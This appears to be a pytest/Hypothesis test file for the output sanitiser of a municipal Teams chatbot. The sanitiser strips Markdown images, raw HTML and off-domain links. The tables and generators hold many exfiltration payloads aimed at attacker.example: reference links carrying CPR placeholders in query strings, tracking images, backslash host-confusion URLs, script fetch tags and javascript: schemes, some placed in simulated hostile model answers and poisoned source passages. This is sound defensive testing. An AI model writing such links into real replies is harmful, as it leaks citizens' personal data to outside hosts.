"""Class 4: what any door shows is made safe on a CommonMark parse tree.

Table-driven cases (each one got through the regex sanitiser this replaces) and Hypothesis properties
over generated Markdown: links inline, by reference (definitions at a line start, in a quote, in a list,
the target on the next line), autolinks and bare URLs; images inline and by reference; nested and
escaped brackets; inline and block HTML; entities; code; and odd URLs (backslashes, tabs and newlines,
percent-encoding, user info, IDNA, IPv4 forms, schemes in mixed case, relative forms).

The judge is independent of the code under test: the output is rendered by another CommonMark
implementation (``mistletoe``) and every ``href``/``src`` in the HTML is read with ``ada-url`` as a
browser reads it. A URL left as plain text counts as a link too (Teams and GFM clients link bare URLs).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import ada_url
import mistletoe
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.conversation.types import Citation
from bot.llm.output import LinkPolicy, sanitise
from bot.llm.pii import Redactor
from bot.teams.render import client_citations
from tests.redteam.conftest import CPR, EMPLOYEE, Municipality

ALLOWED = ("aarhus.dk",)
POLICY = LinkPolicy(ALLOWED)
# personal data a redactor knows; the model (or a source) writes placeholders for them
VALUES = {"⟦CPR-1⟧": "010203-1234", "⟦EMAIL-1⟧": "borger@mail.example", "⟦TLF-1⟧": "87654321"}
ELEMENTS = {"p", "a", "em", "strong", "del", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br"}
ELEMENTS |= {"table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}
# what a client that links bare text (GFM, Teams) may take for a URL
_LINKABLE = re.compile(r"(?:[a-z][a-z0-9+.\-]*:[/\\]+|www\.)[^\s<]*", re.I)


def redactor() -> Redactor:
    red = Redactor()
    redacted = red.redact(f"{VALUES['⟦CPR-1⟧']} {VALUES['⟦EMAIL-1⟧']} tlf. {VALUES['⟦TLF-1⟧']}").text
    assert redacted == "⟦CPR-1⟧ ⟦EMAIL-1⟧ tlf. ⟦TLF-1⟧"
    return red


class Shown(HTMLParser):
    """What a CommonMark client shows: elements, link targets, image sources, text outside links."""

    def __init__(self, markdown: str) -> None:
        super().__init__(convert_charrefs=True)
        self.markdown = markdown
        self.html = mistletoe.markdown(markdown)
        self.elements: list[str] = []
        self.hrefs: list[str] = []
        self.srcs: list[str] = []
        self.text: list[str] = []
        self._in_link = 0
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self._in_link += tag == "a"
        for name, value in attrs:
            if name == "href":
                self.hrefs.append(value or "")
            elif name in ("src", "srcset", "data", "poster", "background"):
                self.srcs.append(value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._in_link -= tag == "a"

    def handle_endtag(self, tag: str) -> None:
        self._in_link -= tag == "a" and self._in_link > 0

    def handle_data(self, data: str) -> None:
        if not self._in_link:
            self.text.append(data)

    def bare_urls(self) -> list[str]:
        found = (m.group().rstrip(".,;:!?'\")*_~") for m in _LINKABLE.finditer(" ".join(self.text)))
        return ["https://" + u if u[:4].lower() == "www." else u for u in found]

    def targets(self) -> list[str]:
        """Every place a click or a fetch can go: link targets, image sources, linkable text."""
        return self.hrefs + self.srcs + self.bare_urls()


def opens_allowed(url: str) -> bool:
    """Does a browser open ``url`` only at an allowed host over https? Read both as the renderer encoded
    it and as a client that does not percent-encode would pass it (``\\`` for ``%5C``)."""
    for variant in {url, re.sub("%5c", "\\\\", url, flags=re.I)}:
        try:
            parsed = ada_url.URL(variant)
        except ValueError:
            return False
        host = parsed.hostname.rstrip(".")
        if parsed.protocol != "https:" or parsed.username or parsed.password:
            return False
        if not any(host == h or host.endswith("." + h) for h in ALLOWED):
            return False
    return True


def assert_safe(markdown: str) -> Shown:
    shown = Shown(markdown)
    assert "img" not in shown.elements and not shown.srcs, shown.html
    assert set(shown.elements) <= ELEMENTS, shown.html  # no raw HTML element reaches a client
    outside = [u for u in shown.targets() if not opens_allowed(u)]
    assert not outside, (outside, shown.html)
    return shown


def assert_no_value_in_urls(shown: Shown) -> None:
    from urllib.parse import unquote

    for target in shown.targets():
        for value in VALUES.values():
            assert value not in target and value not in unquote(target), (value, target, shown.html)


# --- table-driven: each case got through the regex sanitiser ---------------------------------------

# 4a: a placeholder restored inside a URL written in a form the regexes did not take for a link
RESTORED_IN_URL = [
    "[Se her][r]\n\n> [r]: //attacker.example/?q=⟦CPR-1⟧",  # a definition inside a quote
    "[Se her]\n\n- [se her]: //attacker.example/?q=⟦CPR-1⟧",  # inside a list
    "[x]\n\n> [x]: https:/attacker.example/?q=⟦CPR-1⟧",  # https:/ is https:// to a browser
    "[x]\n\n[x]:\n//attacker.example/?q=⟦CPR-1⟧",  # the target on the next line
    "[x]\n\n[x]:\n<//attacker.example/?q=⟦CPR-1⟧>",
    "Skriv til <⟦EMAIL-1⟧>",  # restored into an e-mail autolink: mailto:<value>
    "[x][r]\n\n> [r]: https:\\\\attacker.example\\?q=⟦TLF-1⟧",
]

# 4b: an image in a form the regexes did not strip (some from an allowed host: no images at all)
IMAGES = [
    "![a\\]b](//attacker.example/p.png)",  # an escaped bracket in the alt text
    "![a [b] c](//attacker.example/p.png)",  # nested brackets
    "![a [b] c](https://www.aarhus.dk/p.png)",
    "![x]\n\n> [x]: //attacker.example/p.png",  # a shortcut reference, defined in a quote
    "![logo]\n\n> [logo]:\n> //attacker.example/p.png",
    "![a\\]b][r]\n\n- [r]: https:/attacker.example/p.png",
]

# 4c: a target a browser opens elsewhere than urllib.parse thought (or that it did not take for one)
ELSEWHERE = [
    "[x](https://attacker.example\\www.aarhus.dk/)",  # "\\" ends the host for a browser
    "[x](https://attacker.example\\sub.aarhus.dk/?q=1)",
    "se https://attacker.example\\www.aarhus.dk/side nu",  # a bare URL a client links
    "<https://attacker.example\\www.aarhus.dk/>",
    "[a [b] c](//attacker.example/x)",  # scheme-relative, nested brackets
    "[x][r]\n\n> [r]: //attacker.example/",
    "[x]\n\n- [x]: https:/attacker.example/",
    "[x][r]\n\n[r]: https://attacker.example\\www.aarhus.dk/",
]

# 4d: a passage from a source (no model involved) with an image: also reaches Teams through citations
PASSAGE = (
    "# Licens\n\nBeboerlicensen koster 800 kr. ![a [b] c](//attacker.example/p.png) og "
    "![x]\n\n> [x]: //attacker.example/q.png\n\n[se her](https://attacker.example\\www.aarhus.dk/)."
)


# found by the properties below while this was built (the renderer's own mistakes, kept as cases)
FOUND = [
    "\\![](https://www.aarhus.dk)",  # "!" + a kept link whose empty label became its URL: an image
    "a\\\\\\![](https://www.aarhus.dk) \\!<https://www.aarhus.dk>",
    "&lt;&lt;b&gt;img src=//attacker.example/p.png&gt;",  # a tag taken out joins another
    "<![r]\n\n[r]: //www.aarhus.dk",
    "    www.aarhus.dk/'></a>[](www.attacker.example)",  # in code: a URL inside an allowed one's word
    "[&lt;img src=x&gt;](https://www.aarhus.dk)",  # a label that is only a tag
    "Borgeren\n\n800https://www.aarhus.dk",  # a scheme glued to a number: a client may still link it
    "[ ![x](<www.aarhus.dk/<x>>)](https://www.aarhus.dk/ok)",
    "[](https://www.aarhus.dk)*[1]*Borgeren[](https://www.aarhus.dk)****",  # emphasis read otherwise
    "*" * 3000 + "a" + "*" * 3000,  # (checking this took seconds: quadratic)
]


@pytest.mark.parametrize("written", FOUND)
def test_forms_found_by_generation(written: str) -> None:
    once = sanitise(written, POLICY)
    assert_safe(once)
    assert "<img" not in once and sanitise(once, POLICY) == once


@pytest.mark.parametrize("written", RESTORED_IN_URL)
def test_a_placeholder_is_never_restored_into_a_url(written: str) -> None:
    shown = assert_safe(sanitise(written, POLICY, restore=redactor().restore))
    assert_no_value_in_urls(shown)


@pytest.mark.parametrize("written", IMAGES)
def test_no_image_survives(written: str) -> None:
    assert_safe(sanitise(written, POLICY))


@pytest.mark.parametrize("written", ELSEWHERE)
def test_no_link_opens_outside_the_allowed_hosts(written: str) -> None:
    assert_safe(sanitise(written, POLICY))


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://attacker.example\\www.aarhus.dk/", False),  # "\\" ends the host for a browser
        ("https://attacker.example\\.aarhus.dk/", False),
        ("https://attacker.example\\sub.aarhus.dk/?q=1", False),
        ("https:\\\\www.aarhus.dk\\x", True),  # a browser opens https://www.aarhus.dk/x
        ("https://www.aar%68us.dk/", True),  # percent-decoded
        ("https://www。aarhus.dk/", True),  # an ideographic full stop is a dot (IDNA)
        ("https://aarhus.dk./", True),
        ("//www.aarhus.dk/x", True),  # resolved as a page resolves it
    ],
)
def test_hosts_are_decided_as_a_browser_reads_the_url(url: str, allowed: bool) -> None:
    assert POLICY.allows(url) is allowed
    target = POLICY.target(url)
    assert (target is not None and opens_allowed(target)) is allowed  # what is written is what was checked


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https:\\\\attacker.example\\?x.aarhus.dk", False),
        ("https:/attacker.example/", False),
        ("//attacker.example/", False),
        ("/relative/x", False),
        ("java\nscript:alert(1)", False),
        ("https://www.aarhus.dk\t.attacker.example/", False),
        ("https://www.aarhus.dk%2eattacker.example/", False),
        ("https://0x7f.1/", False),
        ("https://aarhus.dk@attacker.example/", False),
        ("https://attacker.example@www.aarhus.dk/", False),
        ("http://www.aarhus.dk/", False),
        ("HTTPS://WWW.AARHUS.DK/x", True),
        ("https://www.aarhus.dk\t/x", True),
        ("https://selvbetjening.aarhus.dk/a?b=1#c", True),
    ],
)
def test_hosts_refused_and_allowed_as_before(url: str, allowed: bool) -> None:
    """Guards: what the old check decided right stays decided so."""
    assert POLICY.allows(url) is allowed


def test_a_hostile_passage_is_safe_in_every_place_teams_shows_it() -> None:
    text = sanitise(PASSAGE, POLICY)
    assert "800 kr." in text
    assert_safe(text)
    citation = Citation(n=1, source="![x](//attacker.example/s.png).md", text=text, heading=None)
    for shown in client_citations("[1]", [citation]):
        assert_safe(shown.appearance.name)
        assert_safe(shown.appearance.abstract)
    # cutting a safe text for Teams' abstract must not make it unsafe again (lines joined, say)
    indented = sanitise("Tekst\n\n    <img src=//attacker.example/p.png>\n", POLICY)
    abstract = client_citations("[1]", [Citation(n=1, source="k.md", text=indented)])[0].appearance.abstract
    assert_safe(abstract)


async def test_a_hostile_source_reaches_teams_harmless_without_a_model(make_services) -> None:  # type: ignore[no-untyped-def]
    """Sources only (no model): the answer quotes passages, the citations carry them, /kilde shows one."""
    from bot.conversation.types import ConversationRef, Incoming, User
    from bot.services import Actor

    services = make_services(admins="bld")
    app, builder = services.app, Actor("bld")
    spec = app.specialists.create(builder, "Web")
    await app.sources.add(builder, spec, "licens.md", PASSAGE.encode())
    app.specialists.use(Actor("bld", conversation=ConversationRef(id="a:bld")), spec.slug)

    def ask(text: str) -> Incoming:
        return Incoming(
            text=text, user=User(id="29:bld", aad_object_id="bld"), conversation=ConversationRef(id="a:bld")
        )

    answer = await services.dispatcher.handle(ask("Hvad koster beboerlicensen?"))
    assert "800 kr." in answer.text
    assert_safe(answer.text)
    assert answer.citations
    for c in answer.citations:
        assert_safe(c.text), assert_safe(c.source)
    full = await services.dispatcher.handle(ask("/kilde 1"))
    assert "800 kr." in full.text
    assert_safe(full.text)


HOSTILE_ANSWER = (
    f"Borgeren ⟦CPR-1⟧ betaler 800 kr. [1]. {IMAGES[1]} {ELSEWHERE[0]} og [Se her][r] samt "
    "[vejledningen](https://www.aarhus.dk/borger/licens) [1].\n\n> [r]: //attacker.example/?q=⟦CPR-1⟧\n"
)


async def test_a_hostile_answer_is_harmless_also_while_it_streams(municipality: Municipality) -> None:
    """Streamed (no personal data in the question: the router streams) and restored (a CPR number in
    the question: redacted for the external model, not streamed, restored in text only)."""
    from bot.conversation.types import ConversationRef, Incoming, User

    municipality.services.settings.link_hosts = list(ALLOWED)
    await municipality.specialist("Licens", "# Licens\n\nBeboerlicensen koster 800 kr. om året.", public=True)
    municipality.external.reply = HOSTILE_ANSWER
    municipality.external.chunk_delay_s = 0.04  # a word at a time: the door gets the text so far often
    streamed: list[str] = []

    async def sink(text: str) -> None:
        streamed.append(text)

    def ask(text: str) -> Incoming:
        return Incoming(
            text=text,
            user=User(id=f"29:{EMPLOYEE}", name=EMPLOYEE, aad_object_id=EMPLOYEE),
            conversation=ConversationRef(id=f"a:{EMPLOYEE}", type="personal", tenant_id="t1"),
        )

    plain = await municipality.services.dispatcher.handle(ask("Hvad koster licensen?"), on_text=sink)
    assert len(streamed) > 2, streamed
    restored = await municipality.services.dispatcher.handle(ask(f"Hvad koster licensen for {CPR}?"))
    assert CPR not in municipality.sent_to(municipality.external)
    assert CPR in restored.text  # restored where it is text the user reads
    for text in [*streamed, plain.text, restored.text]:
        assert "[vejledningen](https://www.aarhus.dk/borger/licens)" in text or text in streamed
        assert "attacker.example" not in text
        for target in assert_safe(text).targets():
            assert CPR not in target and "010203" not in target


# --- generated Markdown ---------------------------------------------------------------------------

SCHEMES = st.sampled_from(["https", "HTTPS", "hTtPs", "http", "javascript", "java\nscript", "jav\tascript"])
SCHEMES |= st.sampled_from(["data", "ftp", "mailto", "vbscript", "file"])
SEPARATORS = st.sampled_from(["://", ":\\\\", ":/", ":", ":/\\", "://\t", ":\\/"])
USERINFO = st.sampled_from(
    ["", "", "", "user@", "user:pw@", "www.aarhus.dk@", "www.aarhus.dk:443@", "a%40b@"]
)
HOSTS = st.sampled_from(
    [
        "www.aarhus.dk",
        "aarhus.dk",
        "WWW.Aarhus.DK",
        "sub.aarhus.dk",
        "aarhus.dk.",
        "www.aar%68us.dk",
        "attacker.example",
        "aarhus.dk.attacker.example",
        "www.aarhus.dk.attacker.example",
        "attacker.example\\www.aarhus.dk",
        "attacker.example\\.aarhus.dk",
        "attacker.example%2f.aarhus.dk",
        "attacker.example%5C.aarhus.dk",
        "attacker.example#.aarhus.dk",
        "attacker.example?.aarhus.dk",
        "www.aarhus.dk\t.attacker.example",
        "www.aarhus.dk\n.attacker.example",
        "xn--rhus-zoa.dk",
        "århus.dk",
        "ａｔｔａｃｋｅｒ.example",
        "attacker。example",
        "0x7f.1",
        "127.1",
        "2130706433",
        "0177.0.0.1",
        "[::1]",
        "aarhus.dk:443",
        "aarhus.dk:8443",
    ]
)
PATHS = st.sampled_from(
    ["", "/", "/x", "/p.png", "/?q=⟦CPR-1⟧", "/⟦CPR-1⟧", "/a%20b", "/a(b)c", "/a)b", "#⟦EMAIL-1⟧", "/a b"]
)
PATHS |= st.sampled_from(["/x?d=⟦TLF-1⟧&y=1", "/\\⟦CPR-1⟧", "/x_y*z", "/`x`", "/<x>", "/[x]"])
URLS = st.one_of(
    st.builds(lambda s, sep, u, h, p: s + sep + u + h + p, SCHEMES, SEPARATORS, USERINFO, HOSTS, PATHS),
    st.builds(lambda u, h, p: "//" + u + h + p, USERINFO, HOSTS, PATHS),
    st.builds(lambda h, p: "www." + h.removeprefix("www.") + p, HOSTS, PATHS),
)
WORDS = st.sampled_from(
    ["Borgeren", "betaler", "800", "kr.", "æblegrød", "licens", "og", "⟦CPR-1⟧", "⟦EMAIL-1⟧", "⟦TLF-1⟧"]
)
WORDS |= st.sampled_from(
    ["[1]", "[2]", "*", "_", "&amp;", "&lt;img src=x&gt;", "&#60;b&#62;", "`", "\\", "#"]
)
WORDS |= st.sampled_from(
    ["-", "1.", ">", "|", "~~", "!", "\\!", "(", ")", "[", "]", "<", "&", ":", "=", "+", "\t"]
)
LABELS = st.lists(WORDS, min_size=0, max_size=3).map(" ".join)
REFS = st.sampled_from(["r", "R", "1", "logo", "Se her"])


def _destination(url: str, form: int) -> str:
    return [url, f"<{url}>", f'{url} "titel"', f"<{url}> '⟦CPR-1⟧'"][form]


@st.composite
def inline(draw: st.DrawFn) -> str:
    """One inline element; reference forms bring their definition along (after a blank line)."""
    url, label, ref = draw(URLS), draw(LABELS), draw(REFS)
    dest = _destination(url, draw(st.integers(0, 3)))
    where = draw(st.sampled_from(["", "> ", "- ", "   ", "1. "]))
    definition = f"\n\n{where}[{ref}]:{draw(st.sampled_from([' ', chr(10), chr(9)]))}{dest}\n\n"
    return draw(
        st.sampled_from(
            [
                f"[{label}]({dest})",
                f"![{label}]({dest})",
                f"[{label}][{ref}]{definition}",
                f"![{label}][{ref}]{definition}",
                f"[{ref}]{definition}",
                f"![{ref}]{definition}",
                f"[{ref}][]{definition}",
                f"<{url}>",
                url,
                f"({url}).",
                f"[a [{label}] b]({dest})",
                f"![a\\]{label}]({dest})",
                f"[![{label}]({dest})]({dest})",
                f"[{label} ![x]({dest})](https://www.aarhus.dk/ok)",
                f'<img src="{url}">',
                f"<a href='{url}'>{label}</a>",
                f"<IMG\nSRC={url}>",
                f"<script>fetch('{url}')</script>",
                f"<!-- {label} -->",
                f'<svg><image href="{url}"/></svg>',
                f"`{url}`",
                f"``<img src={url}>``",
                f"*{label}*",
                f"**{label}**",
                f"~~{label}~~",
                f"&lt;img src={url}&gt;",
                f"[1]({dest})",
                label,
            ]
        )
    )


@st.composite
def block(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.one_of(inline(), WORDS), min_size=1, max_size=5))
    text = draw(st.sampled_from([" ", "\n", ""])).join(parts)
    return draw(
        st.sampled_from(
            [
                text,
                "> " + text,
                "- " + text,
                "1. " + text,
                "# " + text,
                f"<div>\n{text}\n</div>",
                f'<p><img src="{draw(URLS)}"></p>\n{text}',
                f"| a | b |\n| - | - |\n| {text.replace(chr(10), ' ')} | x |",
                "    " + text,
                "```\n" + text + "\n```",
            ]
        )
    )


DOCUMENTS = st.lists(block(), min_size=1, max_size=4).map("\n\n".join)
EXAMPLES = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@EXAMPLES
@given(DOCUMENTS)
def test_generated_markdown_shows_no_image_html_or_foreign_link(written: str) -> None:
    assert_safe(sanitise(written, POLICY))


@EXAMPLES
@given(DOCUMENTS)
def test_a_restored_value_never_lands_in_a_url(written: str) -> None:
    shown = assert_safe(sanitise(written, POLICY, restore=redactor().restore))
    assert_no_value_in_urls(shown)


@EXAMPLES
@given(DOCUMENTS)
def test_sanitising_twice_changes_nothing(written: str) -> None:
    once = sanitise(written, POLICY)
    assert sanitise(once, POLICY) == once


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(["Borgeren", "betaler", "800", "kr.", "æblegrød", "om", "året", "[1]"]), min_size=1
    ),
    st.from_regex(r"/(?:[a-z0-9_\-/]{0,11}[a-z0-9/])?", fullmatch=True),  # no trailing "_" (punctuation)
    st.sampled_from(["www.aarhus.dk", "aarhus.dk", "selvbetjening.aarhus.dk"]),
    st.sampled_from(
        ["[{label}]({url})", "[{label}](<{url}>)", "<{url}>", "{url}", "[{label}][r]\n\n[r]: {url}"]
    ),
)
def test_allowed_links_survive(words: list[str], path: str, host: str, form: str) -> None:
    if form == "{url}":  # written bare, "_x_" in a path is emphasis to a Markdown parser
        path = path.replace("_", "-")
    url = f"https://{host}{path}"
    label = " ".join(words[:2]).replace("[1]", "kilde")
    written = " ".join(words) + " " + form.format(label=label, url=url) + " " + " ".join(words)
    shown = assert_safe(sanitise(written, POLICY))
    assert ada_url.URL(url).href in shown.hrefs, (written, shown.html)


PROSE = st.text(alphabet="abcæøå ABCÆØÅ0123456789.,;?-'", min_size=1).map(lambda s: " ".join(s.split()))


@settings(max_examples=150, deadline=None)
@given(st.lists(PROSE.filter(bool), min_size=1, max_size=4))
def test_plain_text_survives_unchanged(paragraphs: list[str]) -> None:
    # (a paragraph that is a list item or a thematic break is Markdown)
    written = "\n\n".join(p for p in paragraphs if not re.match(r"\d{0,9}[.)]( |$)|-( |$)|-[- ]*$", p))
    assert sanitise(written, POLICY) == written.strip()


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="abc æøå 019 *_`#-+.>|~&\\=!()[];,?'\"{}^$%", min_size=1))
def test_a_literal_text_reads_the_same_after_sanitising(text: str) -> None:
    """Text with every punctuation mark escaped (so it is text, not Markdown): a reader sees exactly
    the same characters after sanitising - escaping changes how it is written, never what it says."""
    text = " ".join(text.split())
    written = re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)
    shown = Shown(sanitise(written, POLICY))
    assert "".join(shown.text).strip() == text.strip()


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(["Borgeren", "har", "CPR", "⟦CPR-1⟧", "og", "(⟦EMAIL-1⟧),", "⟦TLF-1⟧."]), min_size=1
    )
)
def test_placeholders_in_text_are_restored(words: list[str]) -> None:
    written = " ".join(words)
    restored = sanitise(written, POLICY, restore=redactor().restore)
    expected = written
    for placeholder, value in VALUES.items():
        expected = expected.replace(placeholder, value)
    assert Shown(restored).text and "".join(Shown(restored).text).strip() == expected
